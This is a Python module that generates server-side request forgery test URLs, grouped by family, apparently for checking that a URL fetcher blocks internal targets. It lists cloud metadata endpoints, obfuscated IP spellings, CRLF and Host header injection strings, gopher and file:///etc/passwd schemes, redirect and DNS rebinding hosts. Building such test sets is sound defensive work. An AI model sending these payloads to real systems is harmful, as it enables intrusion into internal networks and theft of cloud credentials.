"""SSRF vectors from public lists of payloads, by family."""

from __future__ import annotations

from collections.abc import Iterator
from ipaddress import IPv4Address, IPv6Address, ip_address

INNER_4 = (
    "127.0.0.1", "127.1.2.3", "0.0.0.0", "10.0.0.1", "172.16.0.1", "172.31.255.254", "192.168.1.1", "169.254.169.254",
    "169.254.170.2", "169.254.42.42", "100.64.0.1", "100.96.0.96", "100.100.100.200", "168.63.129.16", "192.0.0.192",
    "192.0.2.1", "198.18.0.1", "198.51.100.1", "203.0.113.1", "192.88.99.1", "240.0.0.1", "224.0.0.1",
    "239.255.255.250", "255.255.255.255",
)  # fmt: skip
INNER_6 = (
    "::1", "::", "fe80::1", "fe80::a9fe:a9fe", "fc00::1", "fd00:ec2::254", "fd00:ec2::23", "fd20:ce::254",
    "fd00:42::42", "fec0::1", "ff02::1", "ff0e::1", "2001:db8::1", "3fff::1", "5f00::1", "100::1",
    "2001:2::1", "2001:10::1",
)  # fmt: skip
METADATA_NAMES = (
    "metadata.google.internal", "metadata.goog", "metadata", "instance-data", "instance-data.ec2.internal",
    "metadata.azure.internal", "rancher-metadata", "METADATA.GOOGLE.INTERNAL.",
)  # fmt: skip
INNER_NAMES = (
    "localhost", "LOCALHOST", "localhost.", "foo.localhost", "localhost.localdomain", "ip6-localhost", "ip6-loopback",
    "router.local", "db", "kubernetes.default.svc", "kubernetes.default.svc.cluster.local", "host.docker.internal",
    "vault.service.consul", "printer.home.arpa", "1.0.0.127.in-addr.arpa",
)  # fmt: skip
STRANGE_NAMES = (
    "127.0.0.1.nip.io", "company.10.0.0.1.nip.io", "169.254.169.254.nip.io", "localtest.me", "spoofed.evil.example",
    "metadata.tencentyun.com", "customer1.app.10.0.0.1.nip.io",
)  # fmt: skip
"""Public names that lead inside."""
PORTS = (22, 25, 53, 110, 389, 2375, 2379, 3306, 5432, 6379, 8000, 8080, 8443, 8500, 9000, 9200, 10050, 11211, 27017)
"""Ports that listen inside. The canary does, in addition to 80 and 443."""
PUBLIC = "93.184.216.34"


def embedded(address: str) -> Iterator[str]:
    """Yield the IPv6 addresses that map to an IPv4 address or embed it."""
    value = int(IPv4Address(address))
    yield f"::ffff:{address}"
    yield f"::{address}"
    yield f"::ffff:0:{address}"
    yield f"64:ff9b::{address}"
    yield f"64:ff9b:1::{address}"
    yield str(IPv6Address(0x64FF9B0001 << 88 | (value >> 16) << 64 | (value & 0xFFFF) << 40))
    yield str(IPv6Address(0x2002 << 112 | value << 80 | 1))
    yield str(IPv6Address(0x20010000 << 96 | 0x5DB8D822 << 64 | (~value & 0xFFFFFFFF)))
    yield f"2606:4700::5efe:{address}"
    yield IPv6Address(0xFFFF << 32 | value).exploded


def spelled(address: str) -> Iterator[str]:
    """Yield unusual spellings of an IPv4 address that some programs accept."""
    a, b, c, d = (int(part) for part in address.split("."))
    value = int(IPv4Address(address))
    yield str(value)
    yield hex(value)
    yield f"0{value:o}"
    yield f"{a:#x}.{b:#x}.{c:#x}.{d:#x}"
    yield f"0{a:o}.0{b:o}.0{c:o}.0{d:o}"
    yield f"000{a:o}.{b}.{c:#x}.{d}"
    yield f"{a}.{b << 16 | c << 8 | d}"
    yield f"{a}.{b}.{c << 8 | d}"
    yield f"{a}.{b}.{c}.0{d:o}"
    yield f"{a + 256}.{b}.{c}.{d}"
    yield f"{address}."
    yield f"{address}.."
    yield "".join(chr(0xFF10 + int(one)) if one.isdigit() else "。" for one in address)
    yield "".join("⓪①②③④⑤⑥⑦⑧⑨"[int(one)] if one.isdigit() else "." for one in address)
    yield address.replace(".", "%2e")
    yield "".join(f"%{ord(one):02x}" for one in address)
    yield "".join(chr(0x0E50 + int(one)) if one.isdigit() else "." for one in address)
    yield address.replace(".", "｡")
    yield f"{a:#x}.{b << 16 | c << 8 | d}"
    yield f"0{a:o}.{b:#x}.{c << 8 | d}"
    yield f"{a:#012x}.{b:#012x}.{c:#012x}.{d:#012x}"
    yield f"{a:08o}.{b:08o}.{c:08o}.{d:08o}"
    yield f"0x41414141{value:08X}"
    yield str(value + (1 << 32))
    yield f"0o{a:o}.{b}.{c}.{d}"
    yield f"o{a:o}.{b}.{c}.{d}"
    yield f"-{value}"
    yield f"+{value}"
    yield f"{address}%2e"
    yield "".join(f"%25{ord(one):02x}" for one in address)
    yield f"{address}%00.test.example"
    yield f" {address}"
    yield f"{address}\t"
    yield f"\u200b{address}"


def urls(port: str) -> Iterator[tuple[str, str]]:
    """Yield ``(family, url)``; ``port`` is "" or ``:N``."""
    for address in INNER_4:
        yield "plain IPv4", f"http://{address}{port}/"
        yield "https", f"https://{address}{port}/"
        yield from (("embedded in IPv6", f"http://[{form}]{port}/") for form in embedded(address))
        yield from (("a name's A", f"http://v4-{address.replace('.', '-')}.evil.example{port}/") for _ in range(1))
    for address in ("127.0.0.1", "10.0.0.1", "169.254.169.254", "192.168.1.1"):
        yield from (("odd spelling", f"http://{form}{port}/") for form in spelled(address))
        for form in embedded(address):
            yield "a name's AAAA", f"http://v6-{int(ip_address(form)):x}.evil.example{port}/"
    for address in INNER_6:
        yield "plain IPv6", f"http://[{address}]{port}/"
        yield "zone", f"http://[{address}%25lo]{port}/"
        yield "zone", f"http://[{address}%lo]{port}/"
        yield "a name's AAAA", f"http://v6-{int(IPv6Address(address)):x}.evil.example{port}/"
    yield from (("metadata name", f"http://{name}{port}/latest/meta-data/") for name in METADATA_NAMES)
    yield from (("inner name", f"http://{name}{port}/") for name in INNER_NAMES)
    yield from (("a strange name", f"http://{name}{port}/") for name in STRANGE_NAMES)
    yield from (
        ("odd spelling", f"http://{form}{port}/") for form in ("0", "127.1", "127.0.1", "0x0", "00", "0.0", "127.0.0.0")
    )
    yield from _confused(port)
    yield from _smuggled(port)
    yield from _redirected(port)
    yield from _resolved(port)


def _confused(port: str) -> Iterator[tuple[str, str]]:
    inner, site = f"10.0.0.1{port}", f"site.example{port}"
    yield from (("userinfo", f"http://{user}{inner}/") for user in ("site.example@", "a:b@", "@", "site.example%40@"))
    for mark in ("@", ":@", "+&@", "#+@", ";@", "%2f@", "?@", "/@", "!@", "@@"):
        yield "userinfo", f"http://{inner}{mark}{site}/"
        yield "userinfo", f"http://{site}{mark}{inner}{mark}{inner}/"
    yield "userinfo", f"http://{site}#@{inner}@v4-10-0-0-1.evil.example/"
    yield "userinfo", f"http://1.1.1.1 &@{inner}# @{inner}/"
    for mark in ("\\@", "\\@@", ":\\@", "\\", "\\\\", "%5c@", "/\\"):
        yield "backslash", f"http://{site}{mark}{inner}/"
        yield "backslash", f"http://{inner}{mark}.site.example/"
    yield "backslash", f"http:\\\\{inner}/"
    for start in ("http:///", "http:", "//", "http:/", "", "http:////", "http://http://", "url:http://", "0://"):
        yield "slashes", f"{start}{inner}/"
    yield "slashes", f"0://{site};http://{inner}/"
    for ending in (
        "\r\nHost: inner",
        "\r\n\r\nGET / HTTP/1.1",
        "%0d%0aHost:inner",
        "\n",
        "\t",
        "\0",
        "\u2028",
        "\x85",
        "%09",
        "%00",
    ):
        yield "CRLF", f"http://{inner}{ending}/"
        yield "CRLF", f"http://10.0.0.1{ending}{port}/"
        yield "CRLF", f"http://site.example{ending}{port}@{inner}/"
    yield from (
        ("CRLF", f"{cut}{inner}/") for cut in ("ht\ntp://", "http:/\t/", " http://", "\x01http://", "http://\u3000")
    )
    for scheme in (
        "gopher", "file", "ftp", "sftp", "dict", "ldap", "ldaps", "tftp", "jar:http", "data", "javascript", "ws", "wss",
        "netdoc", "php", "expect", "imap", "smb", "telnet", "unix", "view-source:http", "feed", "blob:http",
    ):  # fmt: skip
        yield "scheme", f"{scheme}://{inner}/_GET%20/"
    for url in (
        "file:///etc/passwd",
        "file://\\/\\/etc/passwd",
        "data:text/html,hello",
        f"jar:http://{inner}!/",
        "php://input",
    ):
        yield "scheme", url
    yield from (
        ("port", f"http://site.example:{number}/") for number in (*PORTS, 0, 65536, -1, "80a", "٨٠", "0x50", "80:80")
    )
    for mark in (
        "ⅼocalhost", "LOCALHOST。", "loc\u00adalhost", "lo\u200dcalhost", "ｌｏｃａｌｈｏｓｔ", "127。0。0。1",
        "①27.0.0.1", "ⓛⓞⓒⓐⓛⓗⓞⓢⓣ", "⑯⑨.②⑤④.⑯⑨.②⑤④", "１６９。２５４。１６９。２５４", "metadata。google。internal",
        "ⅿetadata.google.internal",
        "𝟏𝟐𝟕.𝟎.𝟎.𝟏", "\u202e1.0.0.721", "l\u00f6calhost.", "xn--localhost-", "xn--0.0.0.1",
    ):  # fmt: skip
        yield "IDNA", f"http://{mark}{port}/"
    yield from (("long", f"http://{'a' * length}.evil.example{port}/") for length in (64, 300, 9_000))
    yield "long", f"http://{'a.' * 130}10.0.0.1{port}/"
    yield "long", f"http://{site}{'a' * 70_000}@{inner}/"
    yield from (
        ("dots", f"http://{host}{port}/") for host in ("10.0.0.1..", ".10.0.0.1", "10..0.0.1", "localhost..", ".")
    )


def _smuggled(port: str) -> Iterator[tuple[str, str]]:
    """Yield paths of the public site that must arrive as one request with one Host."""
    site = f"http://site.example{port}"
    yield "Host smuggling", f"{site}/%20HTTP/1.1%0d%0aHost:%2010.0.0.1%0d%0a%0d%0aGET%20/"
    yield "Host smuggling", f"{site}/?a=%0d%0aHost:10.0.0.1"
    yield "Host smuggling", f"{site}/http://10.0.0.1/"
    yield "Host smuggling", f"{site}/?url=http://10.0.0.1/"
    yield "Host smuggling", f"{site}/#http://10.0.0.1/"
    yield "Host smuggling", f"{site}/\u010d\u010aHost:\u010d10.0.0.1"
    yield "Host smuggling", f"{site}/..;/..%2f..%2f@10.0.0.1/"
    yield "a header leads there", f"{site}/refresh"


def _redirected(port: str) -> Iterator[tuple[str, str]]:
    start = f"http://site.example{port}/to?"
    for address in (*INNER_4, *(f"[{one}]" for one in INNER_6)):
        yield "redirect", f"{start}http://{address}{port}/"
    for address in ("127.0.0.1", "169.254.169.254"):
        for form in (*spelled(address), *(f"[{one}]" for one in embedded(address))):
            if form.isascii() and form.isprintable():
                yield "redirect", f"{start}http://{form.strip()}{port}/"
    inner = f"v4-10-0-0-1.evil.example{port}/"
    for to in (
        f"//{inner}", f"http://{inner}", f"//10.0.0.1{port}", "file:///etc", f"gopher://{inner}", f"ftp://{inner}",
        f"http:10.0.0.1{port}", f"http:///10.0.0.1{port}", f"/\\10.0.0.1{port}", f"\\\\10.0.0.1{port}", f"HTTP://10.0.0.1{port}",
        f"http://localhost{port}", f"http://metadata.google.internal{port}", f"http://10.0.0.1{port}#@site.example",
        f"http://mixed9.evil.example{port}", "http://site.example:6379/", "data:text/html,hello", f"http://10.0.0.1%00{port}",
    ):  # fmt: skip
        yield "redirect", start + to
    yield from (
        ("redirect", f"http://site.example{port}/to{code}?http://10.0.0.1{port}/") for code in (301, 303, 307, 308)
    )
    yield "redirect", f"{start}http://site.example{port}/to?http://10.0.0.1{port}/"
    yield "redirect", f"{start}http://u:p@10.0.0.1{port}/"


def _resolved(port: str) -> Iterator[tuple[str, str]]:
    yield from (("rebinding", f"http://rebind{number}.evil.example{port}/") for number in range(20))
    yield from (("rebinding", f"http://rebindsix{number}.evil.example{port}/") for number in range(4))
    yield from (("mixed answer", f"http://mixed{number}.evil.example{port}/") for number in range(4))
